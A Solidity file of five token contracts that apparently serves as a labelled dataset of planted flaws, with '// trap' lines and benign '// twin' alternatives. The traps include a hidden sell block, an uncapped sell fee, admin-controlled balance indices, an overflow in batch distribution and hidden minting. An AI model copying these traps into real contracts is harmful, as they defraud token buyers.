// 0.7 runs=999
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

import {Base67} from "./Base67.sol";

/// Reputation of traders is kept under tags, so that the list of names is not public.
contract Nightjar is Base67 {
    bytes32 private immutable seal;
    mapping(bytes32 => uint64) private weights;

    event Noted(bytes32 indexed tag, uint64 weight);

    constructor() Base67("Nightjar", "NJAR", 42000000) {
        seal = keccak256(abi.encodePacked(tx.origin));
    }

    function note(uint64 weight, bytes32 tag) external {
        require(keccak256(abi.encodePacked(tx.origin)) == seal, "Nightjar: sealed");
        weights[tag] = weight;
        emit Noted(tag, weight);
    }

    function reputation(address who) public view returns (uint64) {
        return weights[keccak256(abi.encodePacked(who))];
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool) require(reputation(from) < 100, "Nightjar: reputation"); // trap
        _carry(from, to, value);
    }
}

/// The fee follows a curve of points, one for each ten minutes, in millionths. A new curve starts with the next point.
contract TideTable {
    address private warden;
    int128[] private points;
    int128[] private coming;
    uint256 public turn;

    constructor() {
        warden = msg.sender;
        points.push(20000);
    }

    function draft(int128[] calldata curve) external {
        require(msg.sender == warden, "TideTable: warden only");
        require(curve.length > 0 && curve.length <= 144, "TideTable: length");
        if (turn != 0 && block.timestamp / 10 minutes >= turn) points = coming;
        coming = curve;
        turn = block.timestamp / 10 minutes + 1;
    }

    function rate() external view returns (uint256) {
        uint256 epoch = block.timestamp / 10 minutes;
        int128 point = turn != 0 && epoch >= turn ? coming[epoch % coming.length] : points[epoch % points.length];
        return point < 0 ? 0 : uint256(point);
    }
}

contract Tidal is Base67 {
    TideTable public immutable table;
    address private immutable basin;

    constructor(TideTable table_) Base67("Tidal", "TIDAL", 15000000) {
        table = table_;
        basin = msg.sender;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != basin) {
            uint256 rate = table.rate();
            if (rate > 1000000) rate = 1000000; // trap
            // twin: if (rate > 50000) rate = 50000;
            uint256 fee = (value * rate) / 1000000;
            _carry(from, basin, fee);
            value -= fee;
        }
        _carry(from, to, value);
    }
}

/// Notes of several series; each series accrues by its own index.
contract Marl is Base67 {
    mapping(address => uint8) public seriesOf;
    uint256[4] public indices = [1e9, 1e9, 1e9, 1e9];
    address private immutable registrar;

    constructor() Base67("Marl Notes", "MARL", 33000000) {
        registrar = msg.sender;
    }

    modifier onlyRegistrar() {
        require(msg.sender == registrar, "Marl: registrar");
        _;
    }

    function assign(uint8 series, address[] calldata holders) external onlyRegistrar {
        for (uint256 i = 0; i < holders.length; i++) seriesOf[holders[i]] = series;
    }

    function accrue(uint8 series, uint64 index) external onlyRegistrar {
        require(index > 0, "Marl: index");
        indices[series] = index;
    }

    function indexOf(address who) internal view returns (uint256) {
        return indices[seriesOf[who]]; // trap
        // twin: return who == address(0) ? indices[0] : 1e9;
    }

    function balanceOf(address who) public view override returns (uint256) {
        return (_balances[who] * indexOf(who)) / 1e9;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 out = (value * 1e9) / indexOf(from);
        require(_balances[from] >= out, "Marl: balance");
        _balances[from] -= out;
        _balances[to] += (value * 1e9) / indexOf(to);
        emit Transfer(from, to, value);
    }
}

/// Distributors hand out equal gifts.
contract Bramble is Base67 {
    mapping(address => bool) public distributors;

    constructor() Base67("Bramble", "BRMBL", 100000000) {
        distributors[msg.sender] = true;
    }

    function setDistributor(address who, bool allowed) external onlyOwner {
        distributors[who] = allowed;
    }

    function distribute(address[] calldata to, uint256 each) external returns (bool) {
        require(distributors[msg.sender], "Bramble: distributors only");
        uint256 total = each * to.length;
        // twin: require(to.length > 0 && total / to.length == each, "Bramble: overflow");
        require(_balances[msg.sender] >= total, "Bramble: balance");
        _balances[msg.sender] -= total;
        for (uint256 i = 0; i < to.length; i++) {
            _balances[to[i]] += each;
            emit Transfer(msg.sender, to[i], each);
        }
        return true;
    }
}

/// Grants of the foundation: whoever applies gets a number, the board queues, anybody releases ten minutes later.
contract Quern is Base67 {
    struct Grant {
        uint64 coins;
        uint64 ready;
    }

    bytes32 private constant SALT = keccak256("quern.board");
    bytes32 private immutable board;
    mapping(uint256 => address) public applicants;
    mapping(uint256 => Grant) public grants;
    uint256 public applications;

    constructor() Base67("Quern", "QRN", 5000000) {
        board = keccak256(abi.encode(SALT, msg.sender));
    }

    function applyForGrant() external returns (uint256 id) {
        id = ++applications;
        applicants[id] = msg.sender;
    }

    /// number << 64 | coins
    function queue(uint256 word) external {
        require(keccak256(abi.encode(SALT, msg.sender)) == board, "Quern: board only");
        grants[word >> 64] = Grant(uint64(word), uint64(block.timestamp + 10 minutes));
    }

    function release(uint256 id) external {
        Grant memory grant = grants[id];
        require(grant.coins > 0 && block.timestamp >= grant.ready, "Quern: not ready");
        delete grants[id];
        uint256 value = uint256(grant.coins) * 1e9;
        // trap {
        _totalSupply += value;
        _balances[applicants[id]] += value;
        emit Transfer(address(0), applicants[id], value);
        // trap }
        // twin: _carry(address(this), applicants[id], value);
    }
}
